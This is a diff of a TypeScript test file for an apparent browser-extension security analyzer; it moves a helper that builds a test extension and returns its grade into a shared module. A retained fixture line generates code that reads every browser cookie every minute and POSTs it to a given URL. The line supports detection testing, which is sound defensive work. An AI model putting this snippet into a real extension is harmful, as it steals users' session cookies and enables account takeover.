@@ -1,41 +1,10 @@
 import { describe, expect, it } from 'vitest';
 import { SEVERITIES, type Severity } from '../../model/finding.ts';
-import { analyze } from '../analyze.ts';
-import { memoryTree } from '../sources/memory.ts';
+import { graded } from '../testing/graded.ts';
 import { ASKED, BY_ITSELF } from './sendingVerdict.ts';
 
 const worse = (a: Severity | undefined, b: Severity | undefined): boolean =>
   (a === undefined ? 9 : SEVERITIES.indexOf(a)) <= (b === undefined ? 9 : SEVERITIES.indexOf(b));
-
-interface Parts {
-  readonly content?: string;
-  readonly background?: string;
-  readonly popup?: string;
-  readonly manifest?: object;
-}
-
-async function graded({ content, background, popup, manifest }: Parts): Promise<string> {
-  const files: Record<string, string> = {
-    'manifest.json': JSON.stringify({
-      manifest_version: 3,
-      name: 'Notes',
-      version: '1.0',
-      permissions: ['cookies', 'tabs', 'storage', 'scripting'],
-      host_permissions: ['<all_urls>'],
-      ...(content === undefined ? {} : { content_scripts: [{ matches: ['<all_urls>'], js: ['content.js'] }] }),
-      ...(background === undefined ? {} : { background: { service_worker: 'background.js' } }),
-      ...(popup === undefined ? {} : { action: { default_popup: 'popup.html' } }),
-      ...manifest,
-    }),
-    ...(content === undefined ? {} : { 'content.js': content }),
-    ...(background === undefined ? {} : { 'background.js': background }),
-    ...(popup === undefined
-      ? {}
-      : { 'popup.html': '<button id="b"></button><script src="popup.js"></script>', 'popup.js': popup }),
-  };
-  const { score } = await analyze(memoryTree(files), { kind: 'extension' });
-  return score.grade;
-}
 
 const ALL_COOKIES = (to: string): string =>
   `setInterval(() => chrome.cookies.getAll({}, (all) => fetch(${to}, { method: 'POST', body: JSON.stringify(all) })), 60000);`;
